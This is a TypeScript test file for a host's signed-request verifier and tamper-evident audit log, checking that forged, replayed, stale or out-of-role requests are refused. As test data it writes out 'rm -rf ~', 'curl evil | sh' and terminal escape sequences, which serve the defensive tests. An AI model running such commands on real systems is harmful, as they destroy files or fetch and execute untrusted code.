// The host's verifier as an attacker in the relay would try it: forged, altered, replayed, moved,
// stale, unsigned and out-of-role requests, grants raised or signed by nobody, revoked people. Every
// refusal is a `{ code, message }`; the honest paths (owner, a granted teammate, a team member, a
// vouched second device) pass. Real Ed25519 keys through WebCrypto throughout.
import { appendFileSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { deviceKeyOf, newDeviceKeyPair, signRequest, vouchFor, type DeviceKey } from '../../src/client/device-key.ts';
import {
  digestOf,
  settledRequestDigest,
  signStatement,
  type AccessRole,
  type GrantStatement,
  type RevocationStatement,
  type SettledRequest,
} from '../../src/contracts/index.ts';
import { HostAudit, formatAudit, readAudit, auditFile } from '../../src/host/trust/audit.ts';
import { TrustBook } from '../../src/host/trust/book.ts';
import { FRESHNESS, RequestVerifier, SeenRequests, type HostView } from '../../src/host/trust/verify.ts';

const HOST = 'host-1';
const T0 = 1_800_000_000_000;

async function device(): Promise<DeviceKey> {
  return deviceKeyOf(await newDeviceKeyPair(false), T0);
}

interface World {
  owner: DeviceKey;
  book: TrustBook;
  verifier: RequestVerifier;
  clock: { now: number };
  waiting: Map<string, SettledRequest>;
}

async function world(): Promise<World> {
  const owner = await device();
  const book = await TrustBook.open(HOST, { userId: 'ada', name: 'Ada', device: { id: owner.id, publicKey: owner.publicKey } });
  const clock = { now: T0 };
  const waiting = new Map<string, SettledRequest>();
  const view: HostView = {
    chat: (chatId) => (chatId === 'chat-1' ? { provider: 'claude' } : null),
    settled: (_type, payload) => waiting.get((payload as { requestId?: string }).requestId ?? '') ?? null,
  };
  return { owner, book, verifier: new RequestVerifier({ book, view, now: () => clock.now }), clock, waiting };
}

async function grantOf(
  by: DeviceKey,
  grantId: string,
  role: AccessRole,
  subject: GrantStatement['subject'],
  people: Array<[string, DeviceKey]>,
  chatId: string | null = null,
) {
  return signStatement(by.privateKey, {
    kind: 'tether.grant/1',
    grantId,
    hostId: HOST,
    chatId,
    subject,
    role,
    devices: people.map(([userId, key]) => ({ userId, id: key.id, publicKey: key.publicKey })),
    at: T0,
    by: by.id,
  });
}

async function revocationOf(by: DeviceKey, target: RevocationStatement['target']) {
  return signStatement(by.privateKey, { kind: 'tether.revocation/1', hostId: HOST, target, at: T0, by: by.id });
}

let n = 0;
const send = (chatId = 'chat-1', text = 'ls') => ({ id: `r-${++n}`, type: 'chat.send', payload: { chatId, text } });

async function signed(key: DeviceKey, frame: { id: string; type: string; payload?: unknown }, extra: { settles?: string; now?: number } = {}) {
  return signRequest(key, frame, { hostId: HOST, now: extra.now ?? T0, settles: extra.settles });
}

describe("the host's request verifier", () => {
  it("passes reads unsigned and the owner's signed request, naming who sent it", async () => {
    const { verifier, owner } = await world();
    expect(await verifier.check({ id: 'l', type: 'chat.list', payload: {} }, undefined)).toEqual({ ok: true, sender: null, retry: false });
    const frame = send();
    expect(await verifier.check(frame, await signed(owner, frame))).toEqual({
      ok: true,
      sender: { userId: 'ada', device: owner.id, at: T0, payload: await digestOf(frame.payload), id: frame.id },
      retry: false,
    });
  });

  it("follows the id the relay gives a request on the link (the person's id before it), and only that person's", async () => {
    const { verifier, owner } = await world();
    const frame = send();
    const signature = await signed(owner, frame);
    expect(await verifier.check({ ...frame, id: `bob/${frame.id}` }, signature)).toMatchObject({ ok: false, error: { code: 'signature-invalid' } });
    expect(await verifier.check({ ...frame, id: `ada/${frame.id}` }, signature)).toMatchObject({ ok: true, sender: { id: frame.id } });
    // The same statement under the other spelling of its id is the same request: a retry, not a second run.
    expect(await verifier.check(frame, signature)).toMatchObject({ ok: true, retry: true });
  });

  it('refuses an unsigned or malformed signature on a request that acts on the machine', async () => {
    const { verifier } = await world();
    for (const type of ['chat.send', 'chat.create', 'accounts.save', 'chat.approve', 'accounts.watchLogin', 'chat.setPreferences']) {
      expect(await verifier.check({ id: 'x', type, payload: { chatId: 'chat-1' } }, undefined), type).toMatchObject({
        ok: false,
        error: { code: 'signature-required' },
      });
    }
    for (const junk of [{}, 'sig', 1, { statement: {}, sig: 'A'.repeat(86) }]) {
      expect(await verifier.check(send(), junk)).toMatchObject({ ok: false, error: { code: 'signature-invalid' } });
    }
  });

  it('refuses a forged signature (a key the host does not know) and a stripped-and-swapped one', async () => {
    const { verifier, owner } = await world();
    const mallory = await device();
    const frame = send();
    expect(await verifier.check(frame, await signed(mallory, frame))).toMatchObject({ ok: false, error: { code: 'signature-invalid' } });
    // The owner's statement with another signature: the device is known, the signature is not its.
    const real = await signed(owner, frame);
    const other = await signed(mallory, frame);
    expect(await verifier.check(frame, { statement: real.statement, sig: other.sig })).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid', message: 'The signature does not verify' },
    });
  });

  it('refuses any altered payload, type, id, chat or host', async () => {
    const { verifier, owner } = await world();
    const frame = send();
    const signature = await signed(owner, frame);
    const altered = [
      { ...frame, payload: { chatId: 'chat-1', text: 'rm -rf ~' } },
      { ...frame, type: 'chat.compact' },
      { ...frame, id: 'r-other' },
      { ...frame, payload: { chatId: 'chat-2', text: 'ls' } },
    ];
    for (const forged of altered) {
      expect(await verifier.check(forged, signature), JSON.stringify(forged)).toMatchObject({ ok: false, error: { code: 'signature-invalid' } });
    }
    const elsewhere = await signRequest(owner, frame, { hostId: 'host-2', now: T0 });
    expect(await verifier.check(frame, elsewhere)).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid', message: 'The signature is for another host' },
    });
  });

  it('refuses any payload the relay changed, whatever it changed it to', async () => {
    const { verifier, owner } = await world();
    await fc.assert(
      fc.asyncProperty(fc.jsonValue(), async (text) => {
        const frame = send();
        const signature = await signed(owner, frame);
        fc.pre(JSON.stringify(text) !== JSON.stringify('ls'));
        expect((await verifier.check({ ...frame, payload: { chatId: 'chat-1', text } }, signature)).ok).toBe(false);
      }),
      { numRuns: 60 },
    );
  });

  it('accepts a payload respelled in transit (key order), since it is the same JSON value', async () => {
    const { verifier, owner } = await world();
    const frame = { id: 'r-order', type: 'chat.send', payload: { chatId: 'chat-1', text: 'ls', attachments: [] } };
    const signature = await signed(owner, frame);
    expect((await verifier.check({ ...frame, payload: JSON.parse('{"text":"ls","attachments":[],"chatId":"chat-1"}') }, signature)).ok).toBe(true);
  });

  it('refuses a stale signature and one from too far ahead', async () => {
    const { verifier, owner, clock } = await world();
    const frame = { id: 'stale-create', type: 'chat.create', payload: { chatId: 'chat-9' } };
    const signature = await signed(owner, frame);
    clock.now = T0 + FRESHNESS.pastMs + 1;
    expect(await verifier.check(frame, signature)).toMatchObject({ ok: false, error: { code: 'signature-expired' } });
    clock.now = T0;
    const ahead = send();
    expect(await verifier.check(ahead, await signed(owner, ahead, { now: T0 + FRESHNESS.futureMs + 1 }))).toMatchObject({
      ok: false,
      error: { code: 'signature-expired' },
    });
  });

  it('takes a kept send the relay delivers late once, if this host never took it; a restart does not reopen it', async () => {
    const { book, owner } = await world();
    const dir = dataDir();
    const clock = { now: T0 };
    const view: HostView = { chat: () => ({ provider: 'claude' }), settled: () => null };
    const open = () => new RequestVerifier({ book, view, seen: SeenRequests.open(dir, clock.now), now: () => clock.now });
    let verifier = open();
    // Sent while the host was away; the relay kept it and delivers it two hours later.
    const kept = send();
    const keptSig = await signed(owner, kept);
    clock.now = T0 + 2 * 60 * 60_000;
    expect(await verifier.check(kept, keptSig)).toMatchObject({ ok: true, retry: false, sender: { userId: 'ada' } });
    // The relay resends it after a reconnect: the journal answers it, nothing runs again.
    expect(await verifier.check(kept, keptSig)).toMatchObject({ ok: true, retry: true });
    // Only sends are kept: a two-hour-old approval or chat.create is stale.
    const create = { id: 'late-create', type: 'chat.create', payload: { chatId: 'chat-9' } };
    expect(await verifier.check(create, await signed(owner, create))).toMatchObject({ ok: false, error: { code: 'signature-expired' } });
    // Past the kept window, a send is stale too.
    const ancient = send();
    const ancientSig = await signed(owner, ancient);
    clock.now = T0 + FRESHNESS.keptMs + 1;
    expect(await verifier.check(ancient, ancientSig)).toMatchObject({ ok: false, error: { code: 'signature-expired' } });

    // A restart, then the relay delivers the taken send again an hour later: refused, from seen.jsonl.
    clock.now = T0 + 3 * 60 * 60_000;
    verifier = open();
    expect(await verifier.check(kept, keptSig)).toMatchObject({
      ok: false,
      error: { code: 'signature-replayed', message: 'This signed request was carried out already' },
    });
    // Still refused after another restart days later, while its time could still be accepted.
    clock.now = T0 + FRESHNESS.keptMs - 60_000;
    verifier = open();
    expect(await verifier.check(kept, keptSig)).toMatchObject({ ok: false, error: { code: 'signature-replayed' } });
    // Once past its window it is forgotten (the file shrinks), and its time refuses it.
    clock.now = T0 + FRESHNESS.keptMs + FRESHNESS.futureMs + 2 * 60 * 60_000 + 1;
    verifier = open();
    expect(readFileSync(path.join(dir, 'seen.jsonl'), 'utf8')).toBe('');
    expect(await verifier.check(kept, keptSig)).toMatchObject({ ok: false, error: { code: 'signature-expired' } });
  });

  it("writes a signed request's id before it runs, so a crash after it ran cannot reopen the door", async () => {
    const { book, owner } = await world();
    const dir = dataDir();
    const view: HostView = { chat: () => ({ provider: 'claude' }), settled: () => null };
    const verifier = new RequestVerifier({ book, view, seen: SeenRequests.open(dir, T0), now: () => T0 });
    const prefs = { id: 'p-crash', type: 'chat.setPreferences', payload: {} };
    const signature = await signed(owner, prefs);
    expect((await verifier.check(prefs, signature)).ok).toBe(true);
    // The verdict is given; the request has not run yet, and its id is already on disk.
    expect(readFileSync(path.join(dir, 'seen.jsonl'), 'utf8')).toContain('"i":"p-crash"');
    // A torn line from a crash mid-write is skipped, the rest read.
    appendFileSync(path.join(dir, 'seen.jsonl'), '{"d":"x","i":');
    const restarted = new RequestVerifier({ book, view, seen: SeenRequests.open(dir, T0 + 1), now: () => T0 + 1 });
    expect(await restarted.check(prefs, signature)).toMatchObject({ ok: false, error: { code: 'signature-replayed' } });
  });

  it('refuses a replay of a request that is not answered once, and passes a retry of one that is to the journal', async () => {
    const { verifier, owner } = await world();
    const prefs = { id: 'p-1', type: 'chat.setPreferences', payload: {} };
    const prefSig = await signed(owner, prefs);
    expect((await verifier.check(prefs, prefSig)).ok).toBe(true);
    expect(await verifier.check(prefs, prefSig)).toMatchObject({ ok: false, error: { code: 'signature-replayed' } });
    const frame = send();
    const signature = await signed(owner, frame);
    expect(await verifier.check(frame, signature)).toMatchObject({ ok: true, retry: false });
    expect(await verifier.check(frame, signature)).toMatchObject({ ok: true, retry: true });
  });

  it('after a restart, remembers from the audit what ran within the window, so a replay is still refused', async () => {
    const { book, owner, clock } = await world();
    const prefs = { id: 'p-restart', type: 'chat.setPreferences', payload: {} };
    const signature = await signed(owner, prefs);
    const seen = new SeenRequests();
    seen.seed(
      [
        { device: owner.id, id: prefs.id, signedAt: T0, payload: await digestOf(prefs.payload) },
        { device: null, id: 'x', signedAt: null, payload: null },
      ],
      clock.now,
    );
    const restarted = new RequestVerifier({ book, view: { chat: () => null, settled: () => null }, seen, now: () => clock.now });
    expect(await restarted.check(prefs, signature)).toMatchObject({ ok: false, error: { code: 'signature-replayed' } });
  });

  it('binds an approval to the exact request it settles: moved onto another call, it is refused', async () => {
    const { verifier, owner, waiting } = await world();
    const asked: SettledRequest = { kind: 'approval', requestId: 'q-1', toolName: 'Bash', input: { command: 'ls' } };
    const shown = await settledRequestDigest(asked);
    const approve = { id: 'a-1', type: 'chat.approve', payload: { chatId: 'chat-1', requestId: 'q-1', decision: 'allow' } };
    // The approval was signed while the host showed `ls`; the host now holds `rm -rf ~` under the same id.
    waiting.set('q-1', { ...asked, input: { command: 'rm -rf ~' } });
    expect(await verifier.check(approve, await signed(owner, approve, { settles: shown }))).toMatchObject({ ok: false, error: { code: 'signature-invalid' } });
    // An old approval replayed onto a new request: other id, other digest.
    waiting.set('q-2', { kind: 'approval', requestId: 'q-2', toolName: 'Bash', input: { command: 'curl evil | sh' } });
    const moved = { id: 'a-2', type: 'chat.approve', payload: { chatId: 'chat-1', requestId: 'q-2', decision: 'allow' } };
    expect(await verifier.check(moved, await signed(owner, moved, { settles: shown }))).toMatchObject({ ok: false, error: { code: 'signature-invalid' } });
    // Without naming what it settles at all.
    const bare = { id: 'a-3', type: 'chat.approve', payload: { chatId: 'chat-1', requestId: 'q-2', decision: 'allow' } };
    expect(await verifier.check(bare, await signed(owner, bare))).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid', message: 'An answer must name the request it settles' },
    });
    // The honest answer to what is waiting.
    waiting.set('q-1', asked);
    const honest = { id: 'a-4', type: 'chat.approve', payload: { chatId: 'chat-1', requestId: 'q-1', decision: 'allow' } };
    expect((await verifier.check(honest, await signed(owner, honest, { settles: shown }))).ok).toBe(true);
  });

  it("follows a teammate through an owner's grant, to the role the registry asks and no further", async () => {
    const { verifier, book, owner } = await world();
    const bob = await device();
    expect((await book.addGrant(await grantOf(owner, 'g-1', 'operator', { kind: 'user', userId: 'bob' }, [['bob', bob]], 'chat-1'))).ok).toBe(true);
    const frame = send();
    expect(await verifier.check(frame, await signed(bob, frame))).toMatchObject({ ok: true, sender: { userId: 'bob' } });
    // Another chat, a host-wide request, an owner's request: refused by the host, whatever the relay forwards.
    const other = send('chat-2');
    expect(await verifier.check(other, await signed(bob, other))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    const create = { id: 'c-1', type: 'chat.create', payload: { cwd: '/tmp' } };
    expect(await verifier.check(create, await signed(bob, create))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    const kill = { id: 'k-1', type: 'chat.kill', payload: { chatId: 'chat-1' } };
    expect(await verifier.check(kill, await signed(bob, kill))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    // An account switch needs what chat.continueOn needs (owner).
    const configure = { id: 'cf-1', type: 'chat.configure', payload: { chatId: 'chat-1', account: 'work' } };
    expect(await verifier.check(configure, await signed(bob, configure))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
  });

  it('a viewer is refused every request that acts on the machine', async () => {
    const { verifier, book, owner } = await world();
    const vic = await device();
    await book.addGrant(await grantOf(owner, 'g-v', 'viewer', { kind: 'user', userId: 'vic' }, [['vic', vic]]));
    const frame = send();
    expect(await verifier.check(frame, await signed(vic, frame))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
  });

  it("a team grant reaches its members' devices", async () => {
    const { verifier, book, owner } = await world();
    const [cy, dee] = [await device(), await device()];
    await book.addGrant(
      await grantOf(owner, 'g-t', 'operator', { kind: 'team', teamId: 't-1', members: ['cy', 'dee'] }, [
        ['cy', cy],
        ['dee', dee],
      ]),
    );
    for (const key of [cy, dee]) {
      const frame = send();
      expect((await verifier.check(frame, await signed(key, frame))).ok).toBe(true);
    }
  });

  it('refuses a grant a non-owner signed, one the relay raised, and one for another host', async () => {
    const { book, owner } = await world();
    const bob = await device();
    await book.addGrant(await grantOf(owner, 'g-1', 'operator', { kind: 'user', userId: 'bob' }, [['bob', bob]]));
    // Bob signs himself up to owner: he is no owner.
    expect(await book.addGrant(await grantOf(bob, 'g-2', 'owner', { kind: 'user', userId: 'bob' }, []))).toMatchObject({ ok: false });
    // The relay raises the role of the owner's grant: the signature no longer verifies.
    const real = await grantOf(owner, 'g-3', 'viewer', { kind: 'user', userId: 'eve' }, []);
    expect(await book.addGrant({ ...real, statement: { ...real.statement, role: 'owner' } })).toMatchObject({
      ok: false,
      message: 'The signature does not verify',
    });
    const foreign = await signStatement(owner.privateKey, { ...real.statement, hostId: 'host-2' });
    expect(await book.addGrant(foreign)).toMatchObject({ ok: false, message: 'That grant is for another host' });
    expect(book.roleOf('bob', null)).toBe('operator');
    expect(book.roleOf('eve', null)).toBeNull();
  });

  it("a second device vouched for by a trusted one signs for its person; a stranger's vouch does nothing", async () => {
    const { verifier, book, owner } = await world();
    const phone = await device();
    const unvouched = send();
    expect(await verifier.check(unvouched, await signed(phone, unvouched))).toMatchObject({ ok: false, error: { code: 'signature-invalid' } });
    expect((await book.addDevice(await vouchFor(owner, 'ada', { id: phone.id, publicKey: phone.publicKey, name: 'Phone' }))).ok).toBe(true);
    const frame = send();
    expect(await verifier.check(frame, await signed(phone, frame))).toMatchObject({ ok: true, sender: { userId: 'ada', device: phone.id } });
    // A device vouches only for its own person; an unknown device vouches for nobody.
    const [bob, stranger, mallory] = [await device(), await device(), await device()];
    await book.addGrant(await grantOf(owner, 'g-1', 'viewer', { kind: 'user', userId: 'bob' }, [['bob', bob]]));
    expect(await book.addDevice(await vouchFor(bob, 'ada', { id: mallory.id, publicKey: mallory.publicKey, name: 'x' }))).toMatchObject({ ok: false });
    expect(await book.addDevice(await vouchFor(stranger, 'ada', { id: mallory.id, publicKey: mallory.publicKey, name: 'x' }))).toMatchObject({ ok: false });
    expect(book.device(mallory.id)).toBeNull();
  });

  it('a revoked teammate is refused once the signed revocation arrives, and a revocation by someone else does nothing', async () => {
    const { verifier, book, owner } = await world();
    const [bob, eve] = [await device(), await device()];
    await book.addGrant(await grantOf(owner, 'g-1', 'operator', { kind: 'user', userId: 'bob' }, [['bob', bob]]));
    await book.addGrant(await grantOf(owner, 'g-2', 'operator', { kind: 'user', userId: 'eve' }, [['eve', eve]]));
    expect(await book.addRevocation(await revocationOf(eve, { kind: 'grant', grantId: 'g-1' }))).toMatchObject({ ok: false });
    const before = send();
    expect((await verifier.check(before, await signed(bob, before))).ok).toBe(true);
    expect((await book.addRevocation(await revocationOf(owner, { kind: 'grant', grantId: 'g-1' }))).ok).toBe(true);
    const after = send();
    // The device the grant named counted only through the grant: with it gone the host follows it to nobody.
    expect(await verifier.check(after, await signed(bob, after))).toMatchObject({ ok: false, error: { code: 'signature-invalid' } });
    // The relay sending the grant again does not bring it back.
    expect(await book.addGrant(await grantOf(owner, 'g-1', 'operator', { kind: 'user', userId: 'bob' }, [['bob', bob]]))).toMatchObject({
      ok: false,
      message: 'That grant was revoked',
    });
    // A device revoked by its own person signs nothing more.
    expect((await book.addRevocation(await revocationOf(eve, { kind: 'device', deviceId: eve.id }))).ok).toBe(true);
    const late = send();
    expect(await verifier.check(late, await signed(eve, late))).toMatchObject({ ok: false, error: { code: 'signature-invalid' } });
    // Nobody but the owner revokes the owner's pinned device.
    await book.addGrant(await grantOf(owner, 'g-3', 'operator', { kind: 'user', userId: 'bob' }, [['bob', bob]]));
    expect(await book.addRevocation(await revocationOf(bob, { kind: 'device', deviceId: owner.id }))).toMatchObject({ ok: false });
  });
});

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});
function dataDir(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'tether-audit-'));
  dirs.push(dir);
  return dir;
}

const entry = (over: Partial<Parameters<HostAudit['record']>[0]> = {}) => ({
  at: T0,
  type: 'chat.send',
  id: `r-${++n}`,
  chatId: 'chat-1',
  outcome: 'done' as const,
  userId: 'ada',
  device: 'd'.repeat(43),
  signedAt: T0,
  payload: 'p'.repeat(43),
  relaySays: 'ada',
  ...over,
});

describe("the host's own audit", () => {
  it('appends one line per request, 0600, and reads back whole across reopenings', () => {
    const dir = dataDir();
    const audit = HostAudit.open(dir);
    audit.record(entry());
    audit.record(entry({ outcome: 'refused', code: 'signature-invalid', userId: null, device: null, signedAt: null, payload: null, relaySays: 'mallory' }));
    audit.close();
    const again = HostAudit.open(dir);
    again.record(entry({ type: 'chat.approve' }));
    again.close();
    expect(statSync(auditFile(dir)).mode & 0o777).toBe(0o600);
    const reading = readAudit(dir);
    expect(reading.broken).toBeNull();
    expect(reading.entries.map((e) => [e.type, e.outcome])).toEqual([
      ['chat.send', 'done'],
      ['chat.send', 'refused'],
      ['chat.approve', 'done'],
    ]);
    expect(formatAudit(reading)).toMatch(/chat\.send\s+refused signature-invalid\s+unverified, relay says mallory/);
  });

  it('shows where an edited, removed or reordered line breaks the chain', () => {
    for (const tamper of [
      (lines: string[]) => {
        lines[1] = lines[1].replace('"done"', '"refused"');
      },
      (lines: string[]) => {
        lines.splice(1, 1);
      },
      (lines: string[]) => {
        [lines[1], lines[2]] = [lines[2], lines[1]];
      },
    ]) {
      const dir = dataDir();
      const audit = HostAudit.open(dir);
      for (let i = 0; i < 4; i++) audit.record(entry());
      audit.close();
      const lines = readFileSync(auditFile(dir), 'utf8').trimEnd().split('\n');
      tamper(lines);
      writeFileSync(auditFile(dir), `${lines.join('\n')}\n`);
      const reading = readAudit(dir);
      expect(reading.broken?.line).toBeGreaterThanOrEqual(2);
      expect(reading.entries.length).toBe((reading.broken?.line ?? 0) - 1);
      expect(formatAudit(reading)).toContain('WARNING: the audit breaks at line');
    }
    const dir = dataDir();
    appendFileSync(auditFile(dir), 'not json\n');
    expect(readAudit(dir).broken).toEqual({ line: 1, why: 'not an audit entry' });
  });

  it('prints values from requests without their control characters', () => {
    const dir = dataDir();
    const audit = HostAudit.open(dir);
    audit.record(entry({ id: 'r\u001b[2J\u001b[31mOK', relaySays: 'x\u202eevil', userId: null }));
    audit.close();
    const text = formatAudit(readAudit(dir));
    expect(text).not.toMatch(/[\u001b\u202e]/);
    expect(text).toContain('r?[2J?[31mOK');
  });
});
